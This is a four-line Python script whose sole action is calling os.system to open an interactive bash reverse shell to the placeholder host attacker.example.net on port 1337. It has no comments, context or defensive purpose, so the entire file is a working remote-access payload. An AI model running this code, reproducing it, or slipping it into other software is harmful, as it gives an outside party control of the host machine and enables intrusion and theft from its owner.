#!/usr/bin/env python3

import os
os.system("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
